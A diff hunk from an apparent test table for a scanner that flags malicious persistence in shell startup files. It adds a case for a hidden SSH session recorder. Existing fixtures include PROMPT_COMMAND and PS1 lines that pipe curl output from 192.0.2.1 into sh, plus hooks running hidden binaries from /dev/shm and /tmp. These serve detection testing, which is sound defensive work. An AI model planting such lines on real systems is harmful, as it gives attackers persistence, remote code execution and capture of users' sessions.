@@ -57,6 +57,7 @@ test.each<[string, Machine, string[]]>([
 	['what a command is about to run is run first', { '/root/.bashrc': "PROMPT_COMMAND='curl -s http://192.0.2.1/x | sh'\n" }, ['high /root/.bashrc']],
 	['a prompt that downloads', { '/home/ann/.bash_profile': own("PS1='$(curl -s http://192.0.2.1/k | sh)\\u@\\h\\$ '\n") }, ['high /home/ann/.bash_profile']],
 	['a program at each completion', { '/etc/bash_completion.d/ls2': 'complete -C /var/tmp/.comp ls\n' }, ['high /etc/bash_completion.d/ls2']],
+	['a recorder of what is typed', { '/etc/profile.d/x.sh': '[ -n "$SSH_CONNECTION" ] && (script -qf /var/log/.tty/$USER.$$ ; exit)\n' }, ['medium /etc/profile.d/x.sh']],
 	['a script that others may change', { '/etc/profile.d/x.sh': { content: 'true\n', mode: 0o666 } }, ['high /etc/profile.d/x.sh']],
 	['fish', { '/home/ann/.config/fish/conf.d/x.fish': own('/dev/shm/x &\n'), '/dev/shm/x': { mode: 0o755 } }, ['high /home/ann/.config/fish/conf.d/x.fish']],
 	['it ran from a temporary place', { '/home/ann/.bashrc': own('/tmp/.ICE/x &\n') }, ['medium /home/ann/.bashrc']],
